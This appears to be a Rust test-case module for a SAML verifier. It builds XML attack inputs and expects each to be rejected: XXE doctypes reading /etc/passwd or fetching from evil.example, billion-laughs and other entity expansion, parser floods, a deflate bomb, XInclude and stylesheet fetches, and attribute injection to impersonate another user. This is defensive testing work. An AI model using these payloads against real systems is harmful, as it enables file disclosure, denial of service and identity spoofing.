//! Section D: XML and what carries it.

use std::io::Write as _;

use super::forge::{base, edited};
use super::held::{test, text};
use super::parties::{ADA, EVE};
use super::{Case, Gain, Row, case, row, tampered};
use crate::weak::{Message, Wanted, Weakness as W};

const SIGNED: Wanted = Wanted::Assertion;

pub(super) fn rows() -> Vec<Row> {
    vec![
        row("55", "XXE", vec![
            doctype("a classic entity", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", Gain::Fetch("file:///etc/passwd")).into(),
            doctype("a parameter entity", "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://evil.example/e\"> %e;]>", Gain::Fetch("http://evil.example/e")).into(),
            doctype("an external subset", "<!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\">", Gain::Fetch("http://evil.example/r.dtd")).into(),
        ]),
        row("56", "entity expansion", vec![laughs().into(), quadratic().into()]),
        row("57", "depth, attributes, names, namespaces", vec![
            flood("depth", &format!("{}{}", "<b>".repeat(300), "</b>".repeat(300))).into(),
            flood("attributes", &format!("<b{}></b>", many(|n| format!(" a{n}=\"\"")))).into(),
            flood("a name", &format!("<{name}></{name}>", name = "n".repeat(60_000))).into(),
            flood("namespaces", &format!("<b{}></b>", many(|n| format!(" xmlns:a{n}=\"urn:{n}\"")))).into(),
        ]),
        row("58", "deflate bomb", vec![bomb().into(), test("saml-core/tests/verifier/logout.rs", "a_deflate_bomb_is_not_inflated").into()]),
        row("59", "measured after decoding", vec![too_late().into()]),
        row("60", "memory safety of the parser", vec![
            text("saml-core/src/lib.rs", "#![forbid(unsafe_code)]", "lint: no unsafe code in the verifier").into(),
            text("saml-core/src/lib.rs", "deny(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)", "lint: nothing in the path panics").into(),
            test("tests/tests/verifier/bits.rs", "no_change_of_a_byte_changes_who_somebody_is").into(),
        ]),
        row("61", "XInclude, schemas, stylesheets", vec![
            tampered("a stylesheet", SIGNED, ("<samlp:Response", "<?xml-stylesheet href=\"http://evil.example/s\"?><samlp:Response"), "xml_declaration_invalid", W::FetchesSchemas, Gain::Fetch("http://evil.example/s")).into(),
            tampered("an instruction inside", SIGNED, ("<samlp:Status>", "<?include href=\"http://evil.example/p\"?><samlp:Status>"), "xml_processing_instruction_forbidden", W::FetchesSchemas, Gain::Fetch("http://evil.example/p")).into(),
            tampered("XInclude", SIGNED, ("<samlp:Status>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://evil.example/i\"></xi:include><samlp:Status>"), "shape_forbidden", W::FetchesSchemas, Gain::Fetch("http://evil.example/i")).into(),
            tampered("schemaLocation", SIGNED, ("<samlp:Response", "<samlp:Response xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://evil.example/x\""), "xml_attribute_forbidden", W::FetchesSchemas, Gain::Fetch("http://evil.example/x")).into(),
        ]),
        row("62", "injection at the IdP", vec![
            injected().into(),
            nested().into(),
            test("saml-core/src/ids.rs", "request_id_is_an_xml_id_of_160_bits").into(),
        ]),
    ]
}

fn doctype(name: &str, doctype: &str, gain: Gain) -> Case {
    let control = base(SIGNED);
    let attack = format!("{doctype}{control}");
    case(name, SIGNED, (control, attack), "xml_doctype_forbidden", W::ResolvesEntities, gain)
}

fn laughs() -> Case {
    let control = base(SIGNED);
    let mut entities = "<!ENTITY a0 \"ha\">".to_owned();
    for level in 1..12 {
        let before = format!("&a{};", level - 1).repeat(10);
        entities += &format!("<!ENTITY a{level} \"{before}\">");
    }
    let attack = format!("<!DOCTYPE r [{entities}]>{}", control.replacen(ADA, "&a11;", 1));
    case(
        "a billion laughs",
        SIGNED,
        (control, attack),
        "xml_doctype_forbidden",
        W::ResolvesEntities,
        Gain::Work(10_000_000),
    )
}

fn quadratic() -> Case {
    let control = base(SIGNED);
    let entity = format!("<!ENTITY a \"{}\">", "a".repeat(20_000));
    let attack = format!("<!DOCTYPE r [{entity}]>{}", control.replacen(ADA, &"&a;".repeat(1_000), 1));
    case(
        "one long entity a thousand times",
        SIGNED,
        (control, attack),
        "xml_doctype_forbidden",
        W::ResolvesEntities,
        Gain::Work(10_000_000),
    )
}

fn many(one: impl Fn(usize) -> String) -> String {
    (0..3_000).map(one).collect()
}

/// In a value, where nobody has verified anything yet.
fn flood(name: &str, content: &str) -> Case {
    let control = base(SIGNED);
    let attack = control.replacen("<saml:AttributeStatement>", &format!("{content}<saml:AttributeStatement>"), 1);
    case(name, SIGNED, (control, attack), "xml_limit_exceeded", W::NoLimits, Gain::Work(1_000_000))
}

pub(super) fn post(pairs: &[(&str, &str)]) -> Message {
    let mut form = form_urlencoded::Serializer::new(String::new());
    form.extend_pairs(pairs);
    Message::form(form.finish())
}

pub(super) fn encoded(bytes: impl AsRef<[u8]>) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn bomb() -> Case {
    let control = base(SIGNED);
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&vec![b' '; 24 << 20]).expect("memory takes it");
    let deflated = encoder.finish().expect("memory takes it");
    case(
        "24 MiB in 24 kB",
        SIGNED,
        (control.clone(), control.clone()),
        "xml_not_utf8",
        W::Inflates,
        Gain::Work(24 << 20),
    )
    .posted(post(&[("SAMLResponse", &encoded(&control))]), post(&[("SAMLResponse", &encoded(deflated))]))
}

fn too_late() -> Case {
    let control = base(SIGNED);
    let big = "A".repeat(4 << 20);
    case(
        "4 MiB of base64",
        SIGNED,
        (control.clone(), control.clone()),
        "form_too_large",
        W::MeasuresLate,
        Gain::Work(2 << 20),
    )
    .posted(post(&[("SAMLResponse", &encoded(&control))]), post(&[("SAMLResponse", &big)]))
}

/// The attacker's name at the IdP closes the value and opens an attribute; the IdP escapes nothing and signs.
fn injected() -> Case {
    let attack = edited(SIGNED, |xml| {
        let address =
            format!("<saml:Attribute Name=\"email\"><saml:AttributeValue>{EVE}</saml:AttributeValue></saml:Attribute>");
        xml.replacen("</saml:AttributeStatement>", &format!("{address}</saml:AttributeStatement>"), 1)
    });
    case(
        "a second attribute in a display name",
        SIGNED,
        (base(SIGNED), attack),
        "claim_ambiguous",
        W::LastAttribute,
        Gain::Identity(EVE),
    )
}

fn nested() -> Case {
    let attack = edited(SIGNED, |xml| {
        let value = format!("<saml:AttributeValue>{ADA}</saml:AttributeValue>");
        xml.replacen(&value, "<saml:AttributeValue><b>eve@</b><b>example.com</b></saml:AttributeValue>", 1)
    });
    case("elements in a value", SIGNED, (base(SIGNED), attack), "shape_forbidden", W::NestedValues, Gain::Identity(EVE))
}
